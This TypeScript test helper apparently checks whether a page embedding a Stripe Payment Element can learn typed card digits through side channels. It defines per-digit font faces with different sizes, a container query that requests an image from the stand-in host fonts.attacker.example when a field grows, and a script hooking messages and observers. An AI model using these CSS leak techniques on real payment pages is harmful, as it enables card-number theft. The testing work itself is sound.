import { readFileSync } from 'node:fs';
import type { BrowserContext } from 'playwright-core';
import { elementsPage } from './elements-page.ts';

/** The host of the attacker's fonts, which the browser believes to exist. */
const attackersHost = 'https://fonts.attacker.example';

/** Serves any style sheet and any font for that host, and records what was requested. */
export async function attackersServer(context: BrowserContext): Promise<readonly string[]> {
  const asked: string[] = [];
  await context.route(`${attackersHost}/**`, async (route) => {
    const { pathname } = new URL(route.request().url());
    asked.push(pathname);
    const sheet = pathname === '/digits.css';
    await route.fulfill({
      headers: { 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' },
      contentType: sheet ? 'text/css' : 'font/ttf',
      body: sheet ? digitsSheet : face,
    });
  });
  return asked;
}

/** Its digits are equally wide; `size-adjust` per digit is what would tell them apart. */
const face = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
const digits = [...'0123456789'];

/** A face per digit, each of a different size, and rules that request an image when a field has grown. */
const digitsSheet = `${digits
  .map(
    (digit) =>
      `@font-face { font-family: Digits; src: url(${attackersHost}/digit-${digit}.ttf); unicode-range: U+3${digit}; size-adjust: ${100 + 10 * Number(digit)}%; ascent-override: ${100 + 20 * Number(digit)}% }`,
  )
  .join('\n')}
.Input, .InputElement { field-sizing: content; width: auto; font-family: Digits !important }
.p-Input { container-type: inline-size }
@container (min-width: 100px) { .p-Input-input { background: url(${attackersHost}/wide.png) } }`;

/** The same with typefaces of the machine, for a page without a server. */
export const localDigits = digits.map((digit) => ({
  family: 'Digits',
  src: 'local("DejaVu Sans"), local("Arial"), local("Liberation Sans")',
  unicodeRange: `U+3${digit}`,
  sizeAdjust: `${100 + 10 * Number(digit)}%`,
}));

/**
 * What a page can see of an element without breaking into its frame, in order of arrival: messages, events, sizes,
 * scrolling, focus, classes, frames, and how often the browser reports resources.
 */
const watching = `
const trace = [];
const see = (what, value) => trace.push(what + ' ' + JSON.stringify(value));
const plain = (value) => JSON.parse(JSON.stringify(value ?? null, (key, inner) =>
  ['id', 'callId', 'participantId'].includes(key) ? undefined : inner));
addEventListener('message', ({ data }) => see('message', plain(data)));
const channel = MessagePort.prototype.addEventListener;
MessagePort.prototype.addEventListener = function (name, listener, ...more) {
  return channel.call(this, name, (event) => { see('port', plain(event.data)); return listener.call(this, event); }, ...more);
};
function watchElement(element) {
  for (const name of ['ready', 'change', 'focus', 'blur', 'escape', 'carddetailschange', 'loaderror'])
    element.on(name, (event) => see('event ' + name, plain(event)));
}
const place = document.getElementById('element');
new ResizeObserver(() => see('size', [place.clientWidth, place.clientHeight, place.scrollWidth, place.scrollHeight])).observe(place);
const scroller = document.getElementById('scroller');
document.addEventListener('selectionchange', () => see('selection', String(getSelection())));
document.addEventListener('focusin', () => see('focusin', document.activeElement.tagName));
new MutationObserver((changes) => changes.forEach(({ target, attributeName }) =>
  see('attribute', [target.tagName, attributeName, target.getAttribute(attributeName)])))
  .observe(place, { attributes: true, subtree: true, attributeFilter: ['class', 'style'] });
/** How often the browser has reported it since the last look. */
const counts = {};
const more = (what, count) => { const before = counts[what]; counts[what] = count; return count - before; };
/** What does not report itself, checked after each keystroke. */
function look() {
  const frames = [...document.querySelectorAll('iframe')];
  see('look', {
    frames: [window.length, ...frames.map((frame) => frame.contentWindow.length)],
    heights: frames.map((frame) => [frame.offsetHeight, frame.getBoundingClientRect().width]),
    active: document.activeElement.tagName,
    resources: more('resources', performance.getEntriesByType('resource').length),
    scrolled: [scrollX, scrollY, scroller.scrollLeft, scroller.scrollTop],
    history: more('history', history.length),
  });
}`;

/** Two complete cards of one brand, with different digits in almost every place. */
export const numbers = ['4929127837409151', '4716508266513042'] as const;
const growing = {
  fieldSizing: 'content',
  width: 'auto',
  height: 'auto',
  aspectRatio: '1 / 1',
  fontFamily: 'Digits',
  display: 'inline',
  lineHeight: 'normal',
};
/** Every state and every property that the frame accepts, at its extreme. */
const taken = {
  '.Input': {
    fontFamily: 'Digits, serif',
    letterSpacing: '3px',
    padding: '20px',
    fontSize: '24px',
    lineHeight: '2',
  },
  '.Input--empty': { padding: '2px', borderWidth: '8px', fontSize: '40px', lineHeight: '3' },
  '.Input--invalid': { padding: '30px', letterSpacing: '16px', fontWeight: '900' },
  '.Input:focus': { padding: '40px', border: '8px solid red', fontStyle: 'italic' },
  '.Input::placeholder': { fontSize: '48px', lineHeight: '3' },
};
/** Pages around the Payment Element, each named after what it tries. */
export const hostilePages = [
  {
    name: 'a style sheet with a face per digit',
    fonts: '[{ cssSrc: FONTS + "/digits.css" }]',
    rules: { '.Input': growing },
  },
  {
    name: 'typefaces of the machine by digit',
    fonts: JSON.stringify(localDigits),
    rules: { '.Input': growing },
  },
  {
    name: 'everything an appearance may set',
    fonts: '[{ family: "Digits", src: "url(" + FONTS + "/one.ttf)" }]',
    rules: taken,
  },
  {
    name: 'a typeface of the machine with uneven digits',
    fonts: '[]',
    rules: { '.Input': { fontFamily: 'C059, Gelasio, Z003' } },
  },
  {
    name: 'floating labels on a narrow page',
    fonts: '[]',
    rules: taken,
    labels: 'floating',
    width: '90px',
  },
  {
    name: 'a caret that the browser scrolls the page to',
    fonts: '[]',
    rules: { '.Input': { fontFamily: 'C059, Gelasio, Z003', fontSize: '48px', letterSpacing: '2px' } },
    // Wider than the part that the page shows, so the browser scrolls the page to follow the caret.
    width: '1600px',
  },
] as const;

export function paymentElementOn(page: (typeof hostilePages)[number]): string {
  const labels = 'labels' in page ? page.labels : 'above';
  const appearance = { rules: page.rules, labels, variables: { fontFamily: 'Digits' } };
  return `const elements = stripe.elements({ clientSecret, fonts: ${page.fonts}, appearance: ${JSON.stringify(appearance)} });
const element = elements.create('payment'); watchElement(element); element.mount('#element');`;
}

/** A page that observes what it embeds; `setUp` creates the element in `#element`. */
export function hostilePage(setUp: string, width = '400px'): string {
  return elementsPage({
    setUp: `const FONTS = '${attackersHost}';\n${watching}\n${setUp}`,
    pay: 'return {};',
  }).replace(
    '<div id="element"></div>',
    `<div id="scroller" style="width: 120px; height: 120px; overflow: scroll"><div id="element" style="width: ${width}"></div></div>`,
  );
}

/**
 * The page's trace since the last time, once the effects of a keystroke have settled: two frames are drawn, and messages
 * have been answered. The browser decides which of two tasks of one keystroke comes first.
 */
export const takenTrace = `new Promise((resolve) =>
  requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 25))),
).then(() => (look(), trace.splice(0).sort()))`;
